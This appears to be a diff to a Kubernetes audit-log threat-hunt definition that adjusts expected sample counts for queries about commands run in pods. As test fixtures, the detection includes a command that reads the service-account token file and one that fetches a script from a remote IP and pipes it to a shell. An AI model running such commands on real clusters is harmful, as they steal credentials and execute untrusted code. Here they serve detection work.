@@ -29,7 +29,7 @@ export const commandsInPods: ReadyHunt = {
       title: 'Who ran what, and where',
       types: ['audit'],
       q: `${COMMANDS} | count by user, namespace, pod, exec.command`,
-      onSample: { lastDay: 0, quietDays: 0 },
+      onSample: { lastDay: 1, quietDays: 19, because: 'administrators who open a shell in office hours' },
       hits: [exec('create', {}), exec('get', {})],
       misses: [
         exec('create', { fields: { status: 403 } }),
@@ -40,7 +40,7 @@ export const commandsInPods: ReadyHunt = {
       title: 'Commands that steal, call out or leave the container',
       types: ['audit'],
       q: `${COMMANDS} ${TELLING} | count by user, namespace, pod, exec.command`,
-      onSample: { lastDay: 0, quietDays: 0 },
+      onSample: { lastDay: 1, quietDays: 0 },
       hits: [
         exec('get', { attributes: { 'exec.command': 'cat /var/run/secrets/kubernetes.io/serviceaccount/token' } }),
         exec('create', { attributes: { 'exec.command': 'sh -c curl -s http://203.0.113.9/a | sh' } }),
@@ -57,7 +57,7 @@ export const commandsInPods: ReadyHunt = {
       title: 'Commands by accounts of workloads',
       types: ['audit'],
       q: `${COMMANDS} user:system\\:serviceaccount\\:* ${WITH_OWN_WILL} | count by user, src_ip, user_agent, namespace, pod`,
-      onSample: { lastDay: 0, quietDays: 0 },
+      onSample: { lastDay: 1, quietDays: 0 },
       hits: [exec('get', { fields: { user: 'system:serviceaccount:shop:web' } })],
       misses: [exec('get', {})],
     },
